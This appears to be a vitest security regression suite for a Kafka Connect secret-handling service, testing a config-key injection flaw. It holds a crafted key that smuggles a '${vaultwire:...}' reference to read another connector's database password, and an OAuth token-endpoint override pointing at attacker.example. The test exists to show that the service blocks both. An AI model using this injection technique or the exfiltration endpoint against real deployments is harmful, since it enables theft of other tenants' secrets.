// NEW (found while writing this suite) — a config-provider reference smuggled
// in through a config KEY. "${" is refused in every value, but the reconciler
// writes `${vaultwire:<id>:<key>}` for every key it keeps encrypted, and until
// now that included keys the plugin does not define whose name merely looks
// secret. A key such as
//   x.password}${vaultwire:<another connector's id>:database.password
// therefore reached Kafka Connect with the value
//   ${vaultwire:<own id>:x.password}${vaultwire:<other id>:database.password}
// and a worker of the cluster resolves the second reference with the
// cluster's worker credential: another connector's secret lands in this
// connector's task config (and in Debezium's config dump in the worker log,
// under a key it does not mask). It also let any "…token…"/"…secret…" key
// (e.g. producer.override.sasl.oauthbearer.token.endpoint.url) past the
// plugin's allowlist of keys.
//
// Depends on: branch h-mask ("translate: pass an encrypted value to Connect
// only for a key the plugin defines", merged in main), which closes it.
// Passes on main.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { catalog } from "../../src/catalog/index.js";
import { seedEnvironment, specConnector } from "../http/harness.js";
import { CanaryRegistry } from "./canaries.js";
import { startFakeConnect, waitUntil, type FakeConnect } from "./fake-connect.js";
import { connectorIds, expectNoCanaries, postgresConnector, startSecureServer, startSecurityAzure, storeTargets, type SecureServer, type SecurityAzure } from "./harness.js";

const registry = new CanaryRegistry();
let azure: SecurityAzure;
beforeAll(async () => { azure = await startSecurityAzure(registry); });
afterAll(async () => { await azure.close(); });

describe.each(storeTargets())("config-provider references through config keys on $name", (target) => {
  let server: SecureServer;
  let fake: FakeConnect;
  let base: string;
  let victimId: string;

  beforeAll(async () => {
    fake = await startFakeConnect();
    server = await startSecureServer(target, azure, { realRuntime: true, reconcileIntervalMs: 500 });
    const seed = await seedEnvironment(server, azure, "injection");
    base = seed.base;
    expect((await server.api("PATCH", `/cmk/v2/clusters/${seed.clusterId}`, { spec: { connect_urls: [fake.url] } })).status).toBe(200);
    const victim = specConnector(azure.vaultUri, seed.integrationId, "victim");
    victim.config["database.password"] = azure.jsonSecret.identifier("password");
    expect((await server.api("POST", `${base}/connectors`, victim)).status).toBe(201);
    victimId = (await connectorIds(server, base)).victim ?? "";
  });
  afterAll(async () => {
    await server.close();
    await fake.close();
  });

  it("what reaches Kafka Connect has only the connector's own placeholders, for keys its plugin defines", async () => {
    const password = registry.plant("connector-password", `attacker's own password (${target.name})`);
    const attacker = postgresConnector("attacker", {
      user: "sa",
      password,
      extra: {
        [`x.password}\${vaultwire:${victimId}:database.password`]: "anything-at-all-here",
        "x.password": "anything-at-all-here",
        "producer.override.sasl.oauthbearer.token.endpoint.url": "http://attacker.example/token",
      },
    });
    const created = await server.api("POST", `${base}/connectors`, attacker);
    // Refusing the key outright is as good; what must never happen is the reference reaching Connect.
    if (created.status === 400) return;
    expect(created.status, created.text).toBe(201);
    const attackerId = (await connectorIds(server, base)).attacker ?? "";
    const config = await waitUntil(() => Promise.resolve(fake.configs.get(attackerId)), (c) => c !== undefined);
    expect(config, "the connector was not deployed").toBeDefined();
    const defined = catalog.get("PostgresCdcSourceV2")?.byName;
    for (const [key, value] of Object.entries(config ?? {})) {
      expect(key, key).not.toMatch(/[${}]/);
      expect(key, key).not.toMatch(/^producer\.override\./);
      if (!value.includes("${")) continue;
      expect(value, key).toBe(`\${vaultwire:${attackerId}:${key}}`);
      expect(defined?.has(key), key).toBe(true);
    }
    expect(JSON.stringify(config)).not.toContain(victimId);
    expect(config?.["database.password"]).toBe(`\${vaultwire:${attackerId}:database.password}`);
  });

  it("no request vaultwire sent to Kafka Connect names another connector's secret", () => {
    expect(fake.requests.length).toBeGreaterThan(0);
    const others = fake.requests.filter((r) => r.method === "PUT" && (JSON.parse(r.body || "{}") as { name?: string }).name !== victimId);
    for (const request of others) expect(request.body, request.url).not.toContain(`\${vaultwire:${victimId}:`);
  });

  it("final scan", async () => {
    await expectNoCanaries(server);
  });
});
